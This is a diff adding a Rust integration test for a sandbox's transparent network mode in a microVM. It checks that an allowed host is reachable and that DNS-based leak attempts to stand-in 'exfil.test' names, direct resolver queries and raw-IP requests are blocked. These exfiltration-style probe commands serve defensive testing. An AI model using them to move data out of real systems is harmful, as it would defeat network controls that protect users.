@@ -1339,3 +1339,60 @@ PYEOF
     assert!(!log.contains("exfil"), "{log}");
     assert!(!log.contains("GET"), "a server was reached: {log}");
 }
+
+/// Transparent mode in the microVM tier: the guest (no NIC at all) runs
+/// the same agent as its /init, with the same stub and pool. Without proxy
+/// variables an allowed name works over HTTP and HTTPS; a name that is not
+/// allowed gets NXDOMAIN and its queries reach no resolver.
+#[test]
+fn transparent_mode_in_a_microvm() {
+    let Some(net) = Inet::new() else { return };
+    // No mounts in a microVM yet: the CA travels in the environment.
+    let ca = std::fs::read_to_string(net.certs().join("ca.pem")).unwrap();
+    let ca_env = format!("CA_PEM={ca}");
+    let script = format!(
+        r#"{NO_PROXY_ENV}
+set -u
+printf '%s' "$CA_PEM" >/tmp/ca.pem
+curl -sS -m 20 --noproxy '*' http://www.allowed.test/vm-curl
+curl -sS -m 20 --noproxy '*' --cacert /tmp/ca.pem https://www.allowed.test/vm-curl-tls
+getent hosts leak-from-the-guest.exfil.test; echo "getent=$?"
+echo "stub-TXT: $(dig +time=3 +tries=1 @127.0.0.1 TXT leak-txt-from-the-guest.exfil.test | grep -o 'status: [A-Z]*')"
+dig +time=2 +tries=1 @{DNS} TXT leak-direct-from-the-guest.test >/dev/null 2>&1; echo "dig-direct=$?"
+curl -sS -m 5 --noproxy '*' http://{WWW}/raw-ip 2>&1; echo "raw-ip=$?"
+"#
+    );
+    let Some((o, _)) = net.airlock(
+        Who::Root,
+        &[
+            "run",
+            "--isolation",
+            "microvm",
+            "--allow-host",
+            "www.allowed.test",
+            "--dns-override",
+            &format!("www.allowed.test={WWW}"),
+            "--env",
+            &ca_env,
+            "--",
+            "sh",
+            "-c",
+            &script,
+        ],
+    ) else {
+        return;
+    };
+    assert_eq!(o.code, 0, "{o:?}");
+    let s = &o.stdout;
+    assert!(s.contains("hello from www path=/vm-curl\n"), "{o:?}");
+    assert!(s.contains("hello from www-tls path=/vm-curl-tls\n"), "{o:?}");
+    assert!(s.contains("getent=2"), "{o:?}");
+    assert!(s.contains("stub-TXT: status: NXDOMAIN"), "{o:?}");
+    assert!(!s.contains("dig-direct=0"), "{o:?}");
+    assert!(!s.contains("raw-ip=0"), "{o:?}");
+    let log = net.log();
+    assert!(!log.contains("dns packet"), "{log}");
+    assert!(!log.contains("leak"), "{log}");
+    assert!(!log.contains("raw-ip"), "{log}");
+    assert!(log.contains("www GET /vm-curl host=www.allowed.test"), "{log}");
+}
